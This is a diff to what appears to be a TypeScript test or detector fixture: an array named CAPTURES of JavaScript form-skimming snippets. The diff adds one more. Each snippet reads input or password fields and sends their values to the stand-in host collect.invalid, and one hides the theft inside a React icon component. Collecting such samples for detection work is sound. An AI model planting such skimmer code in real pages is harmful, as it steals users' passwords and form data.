@@ -11,6 +11,7 @@ const CAPTURES: readonly string[] = [
   `const ws = new WebSocket('wss://collect.invalid/k'); const all = {}; addEventListener('blur', (e) => { all.x = e.target.value; }); addEventListener('submit', () => ws.send(JSON.stringify(all)));`,
   `document.addEventListener('submit', (e) => { fetch('https://collect.invalid', { method: 'POST', body: new FormData(e.target) }); });`,
   `const t = document.querySelector('input[type=password]'); setInterval(() => { new Image().src = 'https://collect.invalid/?' + t.value; }, 1000);`,
+  `document.getElementById('password').addEventListener('change', (e) => fetch('https://collect.invalid/' + btoa(e.target.value)));`,
   `document.querySelectorAll('input').forEach((field) => fetch('https://collect.invalid/' + btoa(field.value)));`,
   `exports.Icon = ({ name }) => { useEffect(() => attach(document), []); return name; }; function attach(page) { page.addEventListener('submit', (e) => { navigator.sendBeacon('https://collect.invalid', JSON.stringify(Object.fromEntries(new FormData(e.target)))); }); }`,
   `document.addEventListener('change', (e) => { const all = [...e.currentTarget.querySelectorAll('input')].map((i) => [i.name, i.value]); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all) }); });`,
